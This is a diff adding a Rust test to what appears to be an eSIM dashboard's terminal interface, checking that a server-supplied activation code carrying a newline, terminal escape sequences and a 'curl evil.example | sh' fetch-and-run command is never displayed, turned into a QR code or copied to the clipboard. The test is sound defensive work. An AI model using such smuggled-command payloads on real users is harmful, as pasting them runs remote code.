@@ -272,3 +272,54 @@ fn code_of(h: &Harness, iccid: &str) -> String {
         other => panic!("no activation code for {iccid}: {other:?}"),
     }
 }
+
+/// A server whose `ac` carries a newline and escape sequences: the pane says why there is no
+/// QR code and draws none, the raw text never reaches the screen, and `Y` and `l` copy nothing
+/// (pasted into a shell, the newline would run the rest); `y` still copies the ICCID.
+#[tokio::test]
+async fn a_hostile_activation_code_is_never_drawn_or_copied() {
+    use esimdash::tui::msg::{Answer, Msg, Payload, Request};
+    let mut h = Harness::acme().await;
+    h.send(key('3'));
+    let (id, request) = h
+        .pending()
+        .iter()
+        .find(|(_, r)| matches!(r, Request::Esims(_)))
+        .cloned()
+        .expect("My eSIMs asks for its first page");
+    let Ok(Payload::Esims(mut page)) = esimdash::tui::runtime::execute(&h.api(), &request).await else {
+        panic!("the first page");
+    };
+    let hostile = "LPA:1$rsp.esim.example$ABC\ncurl evil.example | sh\x1b]0;owned\x07";
+    for esim in &mut page.esims {
+        esim.raw_order_json.ac = Some(hostile.to_string());
+    }
+    h.send(Msg::Answer(Box::new(Answer {
+        id,
+        request,
+        result: Ok(Payload::Esims(page)),
+    })));
+    h.settle().await;
+    let iccid = h.app.esims().selected_iccid().unwrap();
+    let screen = h.screen(120, 40);
+    assert!(
+        screen.contains("No QR code: the API's activation code holds") && screen.contains("control characters"),
+        "{screen}"
+    );
+    assert!(
+        !screen.contains("evil.example") && !screen.contains('\u{1b}'),
+        "{screen}"
+    );
+    assert!(
+        crate::common::qr_from_screen(&screen).is_err(),
+        "no QR code drawn:\n{screen}"
+    );
+    for k in ['Y', 'l'] {
+        let effects = h.send(key(k));
+        assert!(copies(&effects).is_empty(), "{k} copied {:?}", copies(&effects));
+        let flash = h.app.flash_message().unwrap();
+        assert_eq!(flash.tone, Tone::Error, "{k}");
+        assert!(flash.text.contains("not an LPA:1$… code"), "{k}: {}", flash.text);
+    }
+    assert_eq!(copies(&h.send(key('y'))), vec![("ICCID", iccid)]);
+}
